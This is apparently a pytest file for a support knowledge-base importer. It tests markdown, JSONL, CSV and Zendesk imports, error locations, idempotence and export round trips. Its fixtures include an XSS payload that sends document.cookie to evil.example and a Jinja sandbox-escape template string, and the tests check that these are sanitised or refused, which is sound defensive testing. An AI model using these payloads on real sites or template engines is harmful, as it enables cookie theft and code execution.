"""Importers for every source format, with the fake embedder: fields, problems, idempotence, round trips."""

from __future__ import annotations

import csv
import json
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select

from kb.db.engine import make_engine
from kb.db.schema import Article, CannedResponse, Tenant
from kb.importers import read_source
from kb.importers.apply import ImportReport
from kb.library import Library
from kb.records import CannedIn
from kb.store import Store
from kb.store.canned import canned_record
from kb.templates import render_template
from kb.vocabulary import VARIABLES
from suggest.embed.fake import HashingEmbedder
from suggest.errors import InputError, NotFoundError

TENANT = "acme"


@pytest.fixture
def library(tmp_path: Path) -> Library:
    return Library(
        Store(make_engine(f"sqlite:///{tmp_path}/db.sqlite")), HashingEmbedder(), tmp_path / "index"
    )


def article_rows(library: Library, tenant: str = TENANT) -> dict[str, dict[str, Any]]:
    """Stored articles by external id, as plain dicts (read inside the session)."""
    with library.store.session() as session:
        rows = session.scalars(select(Article).where(Article.tenant_id == tenant))
        return {
            a.external_id: {
                "canonical_id": a.canonical_id,
                "language": a.language,
                "title": a.title,
                "body": a.body,
                "body_format": a.body_format,
                "body_html": a.body_html,
                "url": a.url,
                "tags": list(a.tags),
                "passages": len(a.passages),
            }
            for a in rows
        }


def canned_rows(library: Library, tenant: str = TENANT) -> dict[str, CannedIn]:
    with library.store.session() as session:
        rows = session.scalars(select(CannedResponse).where(CannedResponse.tenant_id == tenant))
        return {r.external_id: canned_record(r) for r in rows}


def locations(report: ImportReport) -> dict[str, str]:
    return {p.location: p.message for p in report.problems}


def write_md(path: Path, meta: dict[str, Any], body: str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    front = "\n".join(f"{key}: {json.dumps(value, ensure_ascii=False)}" for key, value in meta.items())
    path.write_text(f"---\n{front}\n---\n{body}", encoding="utf-8")


def write_jsonl(path: Path, rows: list[dict[str, Any]]) -> None:
    path.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows), encoding="utf-8")


def write_csv(path: Path, rows: list[dict[str, str]]) -> None:
    header = list(dict.fromkeys(key for row in rows for key in row))
    with path.open("w", encoding="utf-8", newline="") as f:
        writer = csv.DictWriter(f, header)
        writer.writeheader()
        writer.writerows(rows)


BOILER_EN = """Your boiler shows a code on its front panel when something needs attention.

## Pressure too low

If the display shows F22, the water pressure has dropped below 1 bar. Open the filling loop under
the boiler until the gauge reads 1.5 bar, then close it again.

## No hot water

Check that the timer is set to heating and hot water. If the radiators are warm but the taps stay
cold, the diverter valve may be stuck; book a service visit.

## Strange noises

Gurgling usually means air in the radiators. Bleed them one by one, starting downstairs.
"""

BOILER_NL = """Je cv-ketel toont een code op het display als er iets aandacht nodig heeft.

## Waterdruk te laag

Staat er F22 in beeld, dan is de waterdruk onder 1 bar gezakt. Open de vulkraan tot de meter
1,5 bar aangeeft en draai hem daarna weer dicht.

## Geen warm water

Controleer of de klok op verwarming en warm water staat.
"""


def boiler_folder(root: Path, en_body: str = BOILER_EN) -> Path:
    folder = root / "help"
    write_md(
        folder / "articles" / "boiler-codes.en.md",
        {
            "type": "article",
            "external_id": "boiler-codes-en",
            "canonical_id": "boiler-codes",
            "language": "en-GB",
            "title": "What your boiler's display codes mean",
            "url": "https://help.warmhome.example/en/boiler-codes",
            "tags": ["Boiler", "troubleshooting", "boiler"],
            "updated_at": "2026-01-12",
        },
        en_body,
    )
    write_md(
        folder / "articles" / "boiler-codes.nl.md",
        {
            "type": "article",
            "external_id": "boiler-codes-nl",
            "canonical_id": "boiler-codes",
            "language": "NL",
            "title": "Wat de codes op je cv-ketel betekenen",
            "url": "https://help.warmhome.example/nl/boiler-codes",
            "tags": ["boiler"],
        },
        BOILER_NL,
    )
    for language, title, body in (
        (
            "en",
            "Sorry for the wait",
            "Hi {{ customer_first_name }},\n\nSorry that ticket {{ ticket_number }} "
            "is taking longer than we promised. We are on it.\n",
        ),
        (
            "nl",
            "Sorry voor het wachten",
            "Hoi {{ customer_first_name }},\n\nSorry dat ticket "
            "{{ ticket_number }} langer duurt dan beloofd. We zijn ermee bezig.\n",
        ),
    ):
        write_md(
            folder / "canned" / f"sorry-wait.{language}.md",
            {
                "type": "canned",
                "external_id": "sorry-wait",
                "language": language,
                "title": title,
                "category": "unexpected_delay",
                "intents": ["order_status"],
                "variables": ["customer_first_name", "ticket_number"],
            },
            body,
        )
    return folder


def test_markdown_folder_imports_articles_and_merges_canned_variants(
    library: Library, tmp_path: Path
) -> None:
    report, refresh = library.import_path(TENANT, boiler_folder(tmp_path))
    assert report.problems == []
    assert report.counts == {"article created": 2, "canned created": 1}
    articles = article_rows(library)
    en, nl = articles["boiler-codes-en"], articles["boiler-codes-nl"]
    assert (en["language"], nl["language"]) == ("en", "nl")
    assert en["canonical_id"] == nl["canonical_id"] == "boiler-codes"
    assert en["tags"] == ["boiler", "troubleshooting"]
    assert en["url"] == "https://help.warmhome.example/en/boiler-codes"
    assert en["body_format"] == "markdown" and "<h2>Pressure too low</h2>" in en["body_html"]
    assert en["passages"] == 4  # the intro and three sections
    canned = canned_rows(library)["sorry-wait"]
    assert [v.language for v in canned.variants] == ["en", "nl"]
    assert canned.category == "unexpected_delay" and canned.intents == ["order_status"]
    assert refresh.rebuilt and refresh.embedded == en["passages"] + nl["passages"] + 2


def test_reimporting_the_same_source_changes_and_embeds_nothing(library: Library, tmp_path: Path) -> None:
    folder = boiler_folder(tmp_path)
    library.import_path(TENANT, folder)
    report, refresh = library.import_path(TENANT, folder)
    assert report.counts == {"article unchanged": 2, "canned unchanged": 1}
    assert report.changed == 0 and report.problems == []
    assert refresh.embedded == 0 and not refresh.rebuilt


def test_changing_one_section_reembeds_only_that_passage(library: Library, tmp_path: Path) -> None:
    _, first = library.import_path(TENANT, boiler_folder(tmp_path))
    edited = BOILER_EN.replace("Bleed them one by one", "Bleed them one at a time with a radiator key")
    report, refresh = library.import_path(TENANT, boiler_folder(tmp_path, edited))
    assert report.counts == {"article updated": 1, "article unchanged": 1, "canned unchanged": 1}
    assert first.embedded == 9 and refresh.embedded == 1
    hits = library.search.search(TENANT, "radiator key", k=1, language="en").hits
    assert hits[0].external_id == "boiler-codes-en" and hits[0].heading == "Strange noises"


def test_jsonl_bad_line_is_located_and_the_rest_imports(library: Library, tmp_path: Path) -> None:
    source = tmp_path / "kb.jsonl"
    good = {
        "external_id": "smart-meter-en",
        "language": "en-US",
        "title": "Reading your smart meter",
        "body": "Press the blue button twice to see today's usage.",
        "tags": ["Meter"],
    }
    lines = [
        json.dumps(good),
        json.dumps(
            {
                **good,
                "external_id": "smart-meter-nl",
                "canonical_id": "smart-meter-en",
                "language": "nl",
                "title": "Je slimme meter aflezen",
                "body": "Druk twee keer op de blauwe knop.",
            }
        ),
        '{"external_id": "broken", "title": "Missing a brace"',
        json.dumps({**good, "external_id": "tariffs-en", "language": "english", "title": "Tariffs"}),
        json.dumps(["not", "an", "object"]),
        json.dumps(
            {
                **good,
                "external_id": "outage-en",
                "title": "Power outages",
                "body": "Check the fuse box first.",
                "url": "https://help.warmhome.example/outage",
            }
        ),
    ]
    source.write_text("\n".join(lines) + "\n", encoding="utf-8")
    report, _ = library.import_path(TENANT, source)
    problems = locations(report)
    assert set(problems) == {"kb.jsonl:3", "kb.jsonl:4", "kb.jsonl:5"}
    assert "not valid JSON" in problems["kb.jsonl:3"]
    assert "language" in problems["kb.jsonl:4"] and "'english'" in problems["kb.jsonl:4"]
    assert "expected a JSON object" in problems["kb.jsonl:5"]
    articles = article_rows(library)
    assert sorted(articles) == ["outage-en", "smart-meter-en", "smart-meter-nl"]
    assert articles["smart-meter-en"]["language"] == "en" and articles["smart-meter-en"]["tags"] == ["meter"]
    assert articles["smart-meter-nl"]["canonical_id"] == "smart-meter-en"
    assert articles["outage-en"]["url"] == "https://help.warmhome.example/outage"


def test_json_accepts_a_list_and_the_grouped_shape(library: Library, tmp_path: Path) -> None:
    grouped = tmp_path / "library.json"
    grouped.write_text(
        json.dumps(
            {
                "articles": [
                    {
                        "external_id": "thermostat-en",
                        "language": "en",
                        "title": "Pairing your thermostat",
                        "body": "Hold the dial for five seconds until it blinks.",
                    },
                    {"external_id": "thermostat-xx", "language": "en", "title": " ", "body": "No title."},
                ],
                "canned": [
                    {
                        "external_id": "thanks",
                        "title": "Thanks",
                        "category": "closed_csat",
                        "variables": ["csat_link"],
                        "variants": [
                            {
                                "language": "en",
                                "title": "Thanks",
                                "body": "Glad it works! Tell us how we did: {{ csat_link }}",
                            }
                        ],
                    },
                ],
            }
        ),
        encoding="utf-8",
    )
    report, _ = library.import_path(TENANT, grouped)
    assert report.counts == {"article created": 1, "canned created": 1}
    assert list(locations(report)) == ["library.json: articles[1]"]
    assert "title" in report.problems[0].message
    listed = tmp_path / "list.json"
    listed.write_text(
        json.dumps(
            [
                {
                    "type": "article",
                    "external_id": "radiator-en",
                    "language": "en",
                    "title": "Bleeding radiators",
                    "body": "Use a radiator key.",
                },
                "stray",
            ]
        ),
        encoding="utf-8",
    )
    report, _ = library.import_path(TENANT, listed)
    assert report.counts == {"article created": 1} and list(locations(report)) == ["list.json[1]"]
    assert canned_rows(library)["thanks"].variables == ["csat_link"]


def test_csv_articles_and_a_row_missing_its_title(library: Library, tmp_path: Path) -> None:
    source = tmp_path / "articles.csv"
    common = {"type": "article", "canonical_id": "bill", "tags": "billing"}
    write_csv(
        source,
        [
            {
                **common,
                "external_id": "bill-en",
                "language": "en-gb",
                "title": "Understanding your bill",
                "tags": "billing; Invoice",
                "body": "Your bill shows the standing charge and the unit rate.",
            },
            {
                **common,
                "external_id": "bill-nl",
                "language": "nl-BE",
                "body": "Je factuur toont het vastrecht.",
            },
            {
                **common,
                "external_id": "bill-el",
                "language": "el",
                "title": "Κατανόηση του λογαριασμού σας",
                "body": "Ο λογαριασμός δείχνει το πάγιο και την τιμή ανά μονάδα.",
            },
        ],
    )
    report, _ = library.import_path(TENANT, source)
    assert list(locations(report)) == ["articles.csv:3"]
    assert "title" in report.problems[0].message
    articles = article_rows(library)
    assert sorted(articles) == ["bill-el", "bill-en"]
    assert articles["bill-en"]["language"] == "en" and articles["bill-en"]["tags"] == ["billing", "invoice"]
    assert articles["bill-el"]["canonical_id"] == articles["bill-en"]["canonical_id"] == "bill"


def test_csv_canned_rows_merge_and_disagreements_are_reported(library: Library, tmp_path: Path) -> None:
    source = tmp_path / "canned.csv"
    got_it = {
        "type": "canned",
        "external_id": "got-it",
        "category": "ack_in_hours",
        "auto_send": "yes",
        "variables": "customer_first_name; ticket_number",
    }
    sorry = {"type": "canned", "external_id": "sorry", "intents": "complaint", "auto_send": "no"}
    write_csv(
        source,
        [
            {
                **got_it,
                "language": "en",
                "title": "We got your message",
                "body": "Hi {{ customer_first_name }},\n\nWe received ticket {{ ticket_number }}.\n",
            },
            {
                **got_it,
                "language": "nl-NL",
                "title": "We hebben je bericht",
                "body": "Hoi {{ customer_first_name }},\n\nWe hebben ticket {{ ticket_number }} ontvangen.\n",
            },
            {
                **sorry,
                "language": "en",
                "title": "We are sorry",
                "category": "apology",
                "body": "We are sorry about this and will put it right.",
            },
            {
                **sorry,
                "language": "nl",
                "title": "Het spijt ons",
                "category": "answer",
                "body": "Het spijt ons en we lossen het op.",
            },
            {"type": "canned", "language": "en", "title": "No id", "category": "answer", "body": "No id."},
        ],
    )
    report, _ = library.import_path(TENANT, source)
    problems = locations(report)
    # the first two rows span four lines each (quoted newlines), so the third row is on line 10
    assert set(problems) == {"canned.csv:11", "canned.csv:12"}
    assert "category" in problems["canned.csv:11"] and "'answer'" in problems["canned.csv:11"]
    assert "canned.csv:10" in problems["canned.csv:11"]
    assert "external_id" in problems["canned.csv:12"]
    canned = canned_rows(library)
    assert [v.language for v in canned["got-it"].variants] == ["en", "nl"]
    assert canned["got-it"].auto_send and canned["got-it"].category == "ack_in_hours"
    assert canned["got-it"].variables == ["customer_first_name", "ticket_number"]
    assert [v.language for v in canned["sorry"].variants] == ["en"]
    assert canned["sorry"].category == "apology" and canned["sorry"].intents == ["complaint"]
    assert not canned["sorry"].auto_send


def test_sandbox_escape_template_is_refused_and_the_rest_imports(library: Library, tmp_path: Path) -> None:
    source = tmp_path / "canned.jsonl"

    def canned(external_id: str, body: str) -> dict[str, Any]:
        return {
            "type": "canned",
            "external_id": external_id,
            "title": external_id,
            "category": "answer",
            "variants": [{"language": "en", "title": external_id, "body": body}],
        }

    write_jsonl(
        source,
        [
            canned("escape", "Hello {{ ''.__class__.__mro__[1].__subclasses__() }}"),
            canned("calls", "{{ customer_name.upper() }}"),
            canned("plain", "Thanks for waiting, we will update you tomorrow."),
        ],
    )
    report, _ = library.import_path(TENANT, source)
    problems = locations(report)
    assert set(problems) == {"canned.jsonl:1", "canned.jsonl:2"}
    assert "not allowed" in problems["canned.jsonl:1"]
    assert sorted(canned_rows(library)) == ["plain"]


ZENDESK_ARTICLES = {
    "articles": [
        {
            "id": 360001,
            "title": "Resetting your router",
            "locale": "en-us",
            "source_locale": "en-us",
            "html_url": "https://support.fibrenet.example/hc/en-us/articles/360001",
            "label_names": ["Router", "wifi"],
            "updated_at": "2026-02-03T09:30:00Z",
            "draft": False,
            "body": "<h2>Before you start</h2><p>Write down your Wi-Fi name.</p>"
            "<script>document.location='https://evil.example/?c='+document.cookie</script>"
            '<h2>Reset</h2><p onmouseover="steal()">Hold the reset pin for ten seconds.'
            ' <a href="javascript:alert(1)">Help</a></p>',
        },
        {
            "id": 360001,
            "title": "Je router resetten",
            "locale": "nl",
            "html_url": "https://support.fibrenet.example/hc/nl/articles/360001",
            "label_names": ["router"],
            "updated_at": "2026-02-04T10:00:00Z",
            "draft": False,
            "body": "<h2>Voor je begint</h2><p>Schrijf je wifi-naam op.</p>"
            "<h2>Reset</h2><p>Houd de pin ingedrukt.</p>",
        },
        {
            "id": 360002,
            "title": "Upcoming maintenance",
            "locale": "en-us",
            "draft": True,
            "body": "<p>Not ready yet.</p>",
        },
        {"title": "No id at all", "body": "<p>x</p>"},
    ]
}


def test_zendesk_articles_are_sanitised_grouped_and_drafts_reported(library: Library, tmp_path: Path) -> None:
    source = tmp_path / "hc_articles.json"
    source.write_text(json.dumps(ZENDESK_ARTICLES), encoding="utf-8")
    report, _ = library.import_path(TENANT, source)
    assert report.counts == {"article created": 2}
    problems = locations(report)
    assert set(problems) == {"hc_articles.json: articles[2]", "hc_articles.json: articles[3]"}
    assert "draft" in problems["hc_articles.json: articles[2]"]
    articles = article_rows(library)
    en, nl = articles["zendesk-360001-en-us"], articles["zendesk-360001-nl"]
    assert en["canonical_id"] == nl["canonical_id"] == "zendesk-360001"
    assert (en["language"], nl["language"]) == ("en", "nl")
    assert en["body_format"] == "html" and en["tags"] == ["router", "wifi"]
    assert en["url"] == "https://support.fibrenet.example/hc/en-us/articles/360001"
    for needle in ("<script", "document.cookie", "onmouseover", "javascript:"):
        assert needle not in en["body_html"]
    assert "Hold the reset pin" in en["body_html"] and "<script" in en["body"]


ZENDESK_MACROS = {
    "macros": [
        {
            "id": 9001,
            "title": "Apology::Sorry for the slow reply",
            "active": True,
            "actions": [
                {"field": "status", "value": "pending"},
                {
                    "field": "comment_value",
                    "value": "Hi {{ticket.requester.first_name}},\n\n"
                    "We are sorry that your request {{ticket.id}} took longer than it should have. "
                    "I have looked at it personally and it is now resolved.\n\n"
                    "Best regards,\n{{current_user.name}}",
                },
            ],
        },
        {
            "id": 9002,
            "title": "Welcome",
            "active": True,
            "actions": [
                {"field": "comment_value", "value": "{{dc.welcome}} Thank you for writing to us today."}
            ],
        },
        {
            "id": 9003,
            "title": "Billing::Old invoice template",
            "active": False,
            "actions": [
                {
                    "field": "comment_value_html",
                    "value": "<p>Hoi {{ticket.requester.first_name}},</p>"
                    "<p>Je factuur staat in het klantportaal. "
                    "Betalen kan binnen veertien dagen via een overschrijving.</p><script>x()</script>",
                }
            ],
        },
        {
            "id": 9004,
            "title": "Close ticket",
            "active": True,
            "actions": [{"field": "status", "value": "solved"}],
        },
    ]
}


def test_zendesk_macros_become_canned_responses(library: Library, tmp_path: Path) -> None:
    source = tmp_path / "macros.json"
    source.write_text(json.dumps(ZENDESK_MACROS), encoding="utf-8")
    report, _ = library.import_path(TENANT, source)
    assert report.counts == {"canned created": 2}
    problems = locations(report)
    assert set(problems) == {"macros.json: macros[1]", "macros.json: macros[3]"}
    assert "dc.welcome" in problems["macros.json: macros[1]"]
    assert "no comment text" in problems["macros.json: macros[3]"]
    canned = canned_rows(library)
    assert "zendesk-macro-9002" not in canned
    apology = canned["zendesk-macro-9001"]
    assert apology.category == "apology" and apology.title == "Sorry for the slow reply"
    assert apology.state == "active" and not apology.auto_send
    assert apology.variables == ["agent_name", "customer_first_name", "ticket_number"]
    (variant,) = apology.variants
    assert variant.language == "en" and "{{ customer_first_name }}" in variant.body
    assert "ticket." not in variant.body and "current_user" not in variant.body
    samples = {name: v.sample for name, v in VARIABLES.items()}
    rendered = render_template(variant.body, apology.variables, samples)
    assert rendered.missing == () and rendered.text.startswith("Hi Maria,")
    billing = canned["zendesk-macro-9003"]
    assert billing.state == "archived" and billing.category == "answer"
    assert billing.variants[0].language == "nl"
    assert "<" not in billing.variants[0].body and "x()" not in billing.variants[0].body


def test_export_then_import_into_a_fresh_tenant_round_trips(library: Library, tmp_path: Path) -> None:
    library.import_path(TENANT, boiler_folder(tmp_path))
    macros = tmp_path / "macros.json"
    macros.write_text(json.dumps(ZENDESK_MACROS), encoding="utf-8")
    library.import_path(TENANT, macros)
    zendesk = tmp_path / "hc.json"
    zendesk.write_text(json.dumps(ZENDESK_ARTICLES), encoding="utf-8")
    library.import_path(TENANT, zendesk)
    first = tmp_path / "first.jsonl"
    assert library.export(TENANT, first) == {"article": 4, "canned": 3}
    report, _ = library.import_path("fresh", first)
    assert report.problems == [] and report.counts == {"article created": 4, "canned created": 3}
    second = tmp_path / "second.jsonl"
    library.export("fresh", second)
    assert second.read_text(encoding="utf-8") == first.read_text(encoding="utf-8")
    assert canned_rows(library, "fresh")["zendesk-macro-9003"].state == "archived"
    report, refresh = library.import_path("fresh", second)
    assert report.changed == 0 and refresh.embedded == 0


@pytest.mark.parametrize(
    ("name", "fmt", "message"),
    [
        ("notes.txt", None, "cannot tell the format"),
        ("kb.jsonl", "xml", "unknown format 'xml'; expected one of markdown, jsonl"),
        ("missing.csv", None, "does not exist"),
        ("broken.json", None, "is not valid JSON"),
    ],
)
def test_unreadable_sources_raise_input_error(
    library: Library, tmp_path: Path, name: str, fmt: str | None, message: str
) -> None:
    path = tmp_path / name
    if name != "missing.csv":
        path.write_text('{"articles": [' if name.endswith(".json") else "hello\n", encoding="utf-8")
    with pytest.raises(InputError, match=message):
        library.import_path(TENANT, path, fmt=fmt)


def test_read_source_detects_zendesk_exports(tmp_path: Path) -> None:
    macros = tmp_path / "m.json"
    macros.write_text(json.dumps(ZENDESK_MACROS), encoding="utf-8")
    rows = list(read_source(macros))
    assert len(rows) == 4 and isinstance(rows[0], tuple) and rows[0][1]["type"] == "canned"


def test_a_csv_mixing_articles_and_canned_rows_imports_both(library: Library, tmp_path: Path) -> None:
    path = tmp_path / "mixed.csv"
    path.write_text(
        "type,external_id,language,title,category,auto_send,body\n"
        "article,a1,en,One,,,Some article text\n"
        'canned,c1,en,Hi,ack_in_hours,yes,"Thanks!\nWe have your message."\n'
        "canned,c2,en,,answer,no,missing title\n",
        encoding="utf-8",
    )
    report, _ = library.import_path(TENANT, path)
    assert report.counts == {"article created": 1, "canned created": 1}
    assert canned_rows(library)["c1"].auto_send is True
    # the bad row starts on line 5, after a row whose quoted body spans lines 3-4
    assert list(locations(report)) == ["mixed.csv:5"]


def test_zoned_timestamps_survive_an_export_round_trip(library: Library, tmp_path: Path) -> None:
    write_jsonl(
        tmp_path / "in.jsonl",
        [
            {
                "external_id": "a",
                "language": "en",
                "title": "T",
                "body": "B",
                "updated_at": "2026-03-02T10:15:00+02:00",
            }
        ],
    )
    library.import_path(TENANT, tmp_path / "in.jsonl")
    library.export(TENANT, tmp_path / "out.jsonl")
    assert json.loads((tmp_path / "out.jsonl").read_text())["updated_at"] == "2026-03-02T08:15:00"
    report, refresh = library.import_path(TENANT, tmp_path / "out.jsonl")
    assert report.counts == {"article unchanged": 1} and not refresh.rebuilt


def test_a_canned_response_takes_its_title_from_the_tenant_language(library: Library, tmp_path: Path) -> None:
    for lang, title in (("el", "Ελήφθη"), ("en", "Received"), ("nl", "Ontvangen")):
        meta = {
            "type": "canned",
            "external_id": "ack",
            "language": lang,
            "title": title,
            "category": "answer",
        }
        write_md(tmp_path / "c" / f"ack.{lang}.md", meta, "Body")
    library.import_path(TENANT, tmp_path / "c")
    assert canned_rows(library)["ack"].title == "Received"


def test_export_of_an_unknown_tenant_and_import_of_a_missing_path_write_nothing(
    library: Library, tmp_path: Path
) -> None:
    with pytest.raises(NotFoundError, match="no tenant 'nobody'"):
        library.export("nobody", tmp_path / "out.jsonl")
    assert not (tmp_path / "out.jsonl").exists()
    with pytest.raises(InputError, match="does not exist"):
        library.import_path("fresh", tmp_path / "missing")
    with library.store.session() as session:
        assert session.execute(select(Article)).first() is None
        assert session.get(Tenant, "fresh") is None
